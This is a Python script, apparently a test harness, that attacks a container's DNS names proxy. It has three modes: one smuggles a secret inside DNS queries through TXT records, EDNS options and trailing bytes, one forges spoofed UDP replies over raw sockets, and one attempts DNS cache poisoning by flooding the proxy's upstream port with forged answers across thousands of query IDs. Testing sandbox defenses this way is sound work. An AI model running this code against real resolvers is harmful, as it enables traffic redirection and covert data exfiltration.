#!/usr/bin/python3
"""Attacks on the names proxy from inside the container (python3-dnslib).

    dns_attack.py extra SERVER NAME SECRET
        a query for NAME carrying SECRET in an additional TXT record, in an EDNS option and in
        trailing bytes; prints the rcode name and the addresses (as dns_client.py query)
    dns_attack.py canary SELF PEER PORT
        (CAP_NET_RAW) a UDP socket of SELF sends one datagram to PEER:PORT (conntrack: a flow of
        ours), then a raw socket forges its "reply" from PEER:PORT to it, through lo; prints
        "delivered" when the socket received the forgery, "nothing" when not (2 s)
    dns_attack.py forge RESOLVER EVIL NAME
        (CAP_NET_RAW) asks NAME of RESOLVER (which must not answer), finds the names proxy's
        upstream socket (remote RESOLVER:53) in /proc/net/udp and forges answers to it from
        RESOLVER:53 saying NAME is EVIL, with the client's id and 2048 others; prints
        "upstream PORT forged N dropped D" (D: refused on the way out) and "client: RCODE ADDRS"
"""
import errno
import socket
import struct
import sys
import threading
import time

from dnslib import EDNS0, QTYPE, RCODE, RR, TXT, A, DNSRecord, EDNSOption


def rcode_addrs(resp):
    r = DNSRecord.parse(resp)
    return RCODE.get(r.header.rcode) + "".join(
        " " + str(x.rdata) for x in r.rr if QTYPE.get(x.rtype) in ("A", "AAAA"))


def extra(server, name, secret):
    q = DNSRecord.question(name, "A")
    q.add_ar(RR("x.", QTYPE.TXT, rdata=TXT(secret)))
    q.add_ar(EDNS0(udp_len=4096, opts=[EDNSOption(65001, secret.encode())]))
    data = q.pack() + secret.encode()
    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    try:
        s.sendto(data, (server, 53))
        print(rcode_addrs(s.recv(65535)))
    except socket.timeout:
        print("TIMEOUT")
    except OSError as e:
        print(errno.errorcode.get(e.errno, str(e.errno)))


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def forged_udp(src, sport, dst, dport, payload):
    """An IPv4 UDP datagram from src:sport to dst:dport, checksums right."""
    length = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, length)
    udp = struct.pack("!HHHH", sport, dport, length, 0) + payload
    c = csum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", c) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 7, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    return ip + udp


def forged_udp6(src, sport, dst, dport, payload):
    """An IPv6 UDP datagram from [src]:sport to [dst]:dport, checksum right."""
    s, d = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
    length = 8 + len(payload)
    pseudo = s + d + struct.pack("!I3xB", length, 17)
    udp = struct.pack("!HHHH", sport, dport, length, 0) + payload
    c = csum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", c) + udp[8:]
    return struct.pack("!IHBB", 6 << 28, length, 17, 64) + s + d + udp


def raw_send(dst, packet):
    """True when the kernel took it; False when the output hook dropped it (EPERM)."""
    if ":" in dst:
        r = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
        try:
            r.sendto(packet, (dst, 0))
            return True
        except PermissionError:
            return False
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    try:
        r.sendto(packet, (dst, 0))
        return True
    except PermissionError:
        return False


def canary(me, peer, port):
    v6 = ":" in me
    s = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((me, 0))
    s.connect((peer, port))
    s.send(b"canary\n")
    lport = s.getsockname()[1]
    time.sleep(0.2)
    forge_fn = forged_udp6 if v6 else forged_udp
    if not raw_send(me, forge_fn(peer, port, me, lport, b"FORGED-REPLY")):
        print("nothing")  # dropped on the way out
        return
    s.settimeout(2)
    try:
        while True:
            d = s.recv(4096)
            if b"FORGED-REPLY" in d:
                print("delivered")
                return
    except socket.timeout:
        print("nothing")
    except OSError as e:
        print(errno.errorcode.get(e.errno, str(e.errno)))


def forge(resolver, evil, name):
    qid = 0x4242
    out = {}

    def client():
        q = DNSRecord.question(name, "A")
        q.header.id = qid
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(8)
        try:
            s.sendto(q.pack(), (resolver, 53))
            out["client"] = rcode_addrs(s.recv(4096))
        except socket.timeout:
            out["client"] = "TIMEOUT"
        except OSError as e:
            out["client"] = errno.errorcode.get(e.errno, str(e.errno))

    t = threading.Thread(target=client)
    t.start()
    want = socket.inet_aton(resolver)[::-1].hex().upper() + ":0035"
    found = None
    t0 = time.time()
    while not found and time.time() - t0 < 3:
        for line in open("/proc/net/udp").read().splitlines()[1:]:
            f = line.split()
            if f[2] == want:
                la, lp = f[1].split(":")
                found = (socket.inet_ntoa(bytes.fromhex(la)[::-1]), int(lp, 16))
    n = dropped = 0
    if found:
        ids = [qid] + list(range(0, 65536, 32))
        for i in ids:
            q = DNSRecord.question(name, "A")
            q.header.id = i
            r = q.reply()
            r.add_answer(RR(name, QTYPE.A, rdata=A(evil), ttl=300))
            if not raw_send(found[0], forged_udp(resolver, 53, found[0], found[1], r.pack())):
                dropped += 1
            n += 1
    t.join()
    print("upstream", found[1] if found else "none", "forged", n, "dropped", dropped)
    print("client:", out.get("client"))


cmd, args = sys.argv[1], sys.argv[2:]
if cmd == "extra":
    extra(*args)
elif cmd == "canary":
    canary(args[0], args[1], int(args[2]))
elif cmd == "forge":
    forge(*args)
else:
    sys.exit(f"unknown command {cmd}")
